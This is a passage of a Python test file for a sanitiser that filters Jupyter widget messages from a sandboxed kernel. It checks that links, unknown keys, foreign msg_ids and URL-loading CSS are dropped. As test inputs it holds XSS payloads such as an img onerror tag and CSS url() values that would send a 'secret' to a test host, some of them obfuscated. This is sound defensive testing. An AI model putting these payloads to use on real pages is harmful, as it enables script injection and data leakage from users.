    so is a name the frontend's `module[name]` would read as a link, and a standard module's model no widget has."""
    comms: dict[str, str] = {}
    for model in ("DirectionalLinkModel", "LinkModel"):
        m = _box_comm(comms, "comm_open", model, {
            "_model_name": model, "_model_module": "@jupyter-widgets/controls", "_view_name": None,
            "source": ["IPY_MODEL_t", "x"], "target": ["IPY_MODEL_o", "outputs"]})
        assert m.refused == "a link between widgets" and comms[model] == "!"
        assert m.dropped == ["comm_open (a link between widgets)"]
    for name, module, why in [(["LinkModel"], "@jupyter-widgets/controls", "a _model_name that is not text"),
                              ("LinkModel", "some-module", "a link between widgets"),
                              ("LinkModel ", "@jupyter-widgets/controls", "a link between widgets"),
                              ("CoreWidgetModel", None, "the model 'CoreWidgetModel', no standard widget's"),
                              ("TextModel", ["@jupyter-widgets/controls"], "a _model_module that is not text")]:
        m = _box_comm(comms, "comm_open", "l", {"_model_name": name, "_model_module": module})
        assert m.refused == why, (name, module)
    assert _box_comm(comms, "comm_open", "v", {"_model_name": "TextModel", "_view_name": "LinkModel"}).refused
    # a refused comm's later messages are refused too, and its close forgets it
    m = _box_comm(comms, "comm_msg", "LinkModel", {"target": ["IPY_MODEL_h", "value"]})
    assert m.refused == "a comm refused before" and comms["LinkModel"] == "!"
    m = check_box_message(message("iopub", "comm_close", {"comm_id": "LinkModel", "data": {}}), comms)
    BoxKernel._track_comm(SimpleNamespace(comms=comms), m.msg_type, m.content, m.refused is not None)
    assert m.refused and "LinkModel" not in comms
    # a later message may not name a link (nor a name that is not text): the names are dropped
    _box_comm(comms, "comm_open", "t", {"_model_name": "TextModel", "value": "x"})
    m = _box_comm(comms, "comm_msg", "t", {"_model_name": "LinkModel", "_view_module": ["x"], "value": "y"})
    assert m.content["data"]["state"] == {"value": "y"} and comms["t"] == "TextModel"
    # a third-party widget (its module not a standard one) is the frontend's business: it passes (I56, residual)
    m = _box_comm(comms, "comm_open", "3", {"_model_name": "FigureModel", "_model_module": "jupyter-matplotlib",
                                            "figure": 1})
    assert m.refused is None and m.content["data"]["state"]["figure"] == 1


def test_keys_a_widget_s_model_does_not_define_are_dropped():
    """A Text subclass with an extra synced key holding outputs: the key is no TextModel's, so it is dropped, in a
    comm_open, a later update and a binary buffer alike."""
    import base64
    comms: dict[str, str] = {}
    html = [{"output_type": "display_data", "data": {"text/html": "<img src=x onerror=alert(1)>"}, "metadata": {}}]
    m = _box_comm(comms, "comm_open", "t", {"_model_name": "TextModel", "_model_module": "@jupyter-widgets/controls",
                                            "_view_name": "TextView", "value": "ok", "x": html})
    assert "x" not in m.content["data"]["state"] and m.content["data"]["state"]["value"] == "ok"
    assert m.dropped == ["comm_open.data.state:x (no key of its model's)"]
    m = _box_comm(comms, "comm_msg", "t", {"x": html, "outputs": html, "value": "v"})
    assert m.content["data"]["state"] == {"value": "v"}
    m = check_box_message(message("iopub", "comm_msg", {"comm_id": "t", "data": {
        "method": "update", "state": {}, "buffer_paths": [["x"], ["placeholder"]]}},
        buffers=[base64.b64encode(b).decode() for b in (b"<img onerror=x>", b"p")]), comms)
    assert m.content["data"]["buffer_paths"] == [["placeholder"]] and m.buffers == [b"p"]
    # a message that would push the comm past the names it may have is still held to its model's keys
    for n in range(6):
        _box_comm(comms, "comm_msg", "t", {"_model_name": f"Fake{n}Model"})
    m = _box_comm(comms, "comm_msg", "t", {"_model_name": "Fake9Model", "x": html, "value": "w"})
    assert m.content["data"]["state"] == {"value": "w"}
    # an Output widget keeps its own keys (outputs filtered, as before)
    m = _box_comm(comms, "comm_open", "o", {"_model_name": "OutputModel", "outputs": html, "x": 1})
    assert set(m.content["data"]["state"]) == {"_model_name", "outputs"}


def test_an_output_widget_captures_only_a_request_of_the_box_s():
    """An Output widget captures into itself the outputs of the request its `msg_id` names, and syncs them back into
    the box: only a request the box was sent may be named (`with out:` in a box cell), never a host cell's."""
    comms: dict[str, str] = {}
    box_requests = {"cell-1"}
    m = _box_comm(comms, "comm_open", "o", {"_model_name": "OutputModel", "msg_id": "host-7"}, box_requests)
    assert m.content["data"]["state"]["msg_id"] == "" and m.dropped == ["comm_open.data.state:msg_id (no request of "
                                                                        "the box's)"]
    for value, kept in [("cell-1", "cell-1"), ("", ""), ("host-8", ""), (["cell-1"], ""), (7, "")]:
        m = _box_comm(comms, "comm_msg", "o", {"msg_id": value}, box_requests)
        assert m.content["data"]["state"]["msg_id"] == kept, value
    # nor from a buffer, nor from the control comm (below: update_states)
    m = check_box_message(message("iopub", "comm_msg", {"comm_id": "o", "data": {
        "method": "update", "state": {}, "buffer_paths": [["msg_id"]]}}, buffers=["aG9zdC05"]), comms, box_requests)
    assert m.content["data"]["buffer_paths"] == [] and m.buffers == []


def test_update_states_carrying_a_link_or_unknown_key_is_sanitised():
    """The control comm's update_states makes every widget it lists on page load: a link among them is dropped, as
    is a key its model lacks, a msg_id no request of the box's, and a buffer setting either."""
    comms = {"ctl": ""}
    states = {"l": {"model_name": "DirectionalLinkModel", "model_module": "@jupyter-widgets/controls",
                    "state": {"source": ["IPY_MODEL_t", "x"], "target": ["IPY_MODEL_o", "outputs"]}},
              "l2": {"model_name": "TextModel", "state": {"_model_name": "LinkModel"}},
              "l3": {"model_name": ["LinkModel"], "state": {}},
              "t": {"model_name": "TextModel", "model_module": "@jupyter-widgets/controls",
                    "state": {"value": "v", "x": "<img src=x onerror=alert(1)>"}},
              "o": {"model_name": "OutputModel", "model_module": "@jupyter-widgets/output",
                    "state": {"msg_id": "host-1", "outputs": []}}}
    m = check_box_message(message("iopub", "comm_msg", {"comm_id": "ctl", "data": {
        "method": "update_states", "states": states, "buffer_paths": [["t", "state", "x"], ["o", "state", "msg_id"],
                                                                      ["l", "state", "y"]]}},
        buffers=["AAE=", "AAE=", "AAE="]), comms, {"cell-1"})
    got = m.content["data"]["states"]
    assert set(got) == {"t", "o"} and got["t"]["state"] == {"value": "v"}
    assert got["o"]["state"] == {"msg_id": "", "outputs": []}
    assert m.content["data"]["buffer_paths"] == [] and m.buffers == []
    assert "comm_msg.data.states:l (a link between widgets)" in m.dropped
    assert "comm_msg.data.states:l3 (a model_name that is not text)" in m.dropped
    # an entry naming a widget the box has already: the page may set this state on it, so it may not make it render
    # markup it did not (the Text's value was never sanitised as HTML), nor revive a refused comm
    comms.update(t="TextModel", gone="!")
    again = {"t": {"model_name": "TextModel", "state": {"_view_name": "HTMLView"}},
             "gone": {"model_name": "TextModel", "state": {"value": "v"}},
             "t2": {"model_name": "TextModel", "state": {"_view_name": "HTMLView", "value": "<img src=x onerror=y>"}}}
    m = check_box_message(message("iopub", "comm_msg", {"comm_id": "ctl", "data": {
        "method": "update_states", "states": again}}), comms)
    assert set(m.content["data"]["states"]) == {"t2"}
    assert m.content["data"]["states"]["t2"]["state"]["value"] == '<img src="x">'  # new: sanitised as HTML
    assert "comm_msg.data.states:t (a widget that renders markup it did not)" in m.dropped
    assert "comm_msg.data.states:gone (a comm refused before)" in m.dropped


def test_a_style_or_layout_value_never_loads_a_url():
    """A Style or Layout model's values are set as CSS on an element: `background: url(...)` would be fetched with no
    click, past the egress door; colours and arithmetic pass."""
    comms: dict[str, str] = {}
    m = _box_comm(comms, "comm_open", "s", {
        "_model_name": "HTMLStyleModel", "background": "url(http://198.18.0.9/?secret)", "text_color": "rgb(1, 2, 3)",
        "font_size": "calc(1em + 2px)", "description_width": "u\\72l(http://x/)"})
    assert m.content["data"]["state"] == {"_model_name": "HTMLStyleModel", "text_color": "rgb(1, 2, 3)",
                                          "font_size": "calc(1em + 2px)"}
    for value in ("IMAGE-SET('http://x/' 1x)", "red /**/", ["url(http://x/)"], "-webkit-image-set(x)"):
        m = _box_comm(comms, "comm_msg", "s", {"background": value})
        assert m.content["data"]["state"] == {}, value
    m = _box_comm(comms, "comm_open", "lay", {"_model_name": "LayoutModel", "border_top": "1px solid red",
                                              "width": "50%", "grid_template_areas": "url(//x)"})
    assert m.content["data"]["state"] == {"_model_name": "LayoutModel", "border_top": "1px solid red", "width": "50%"}
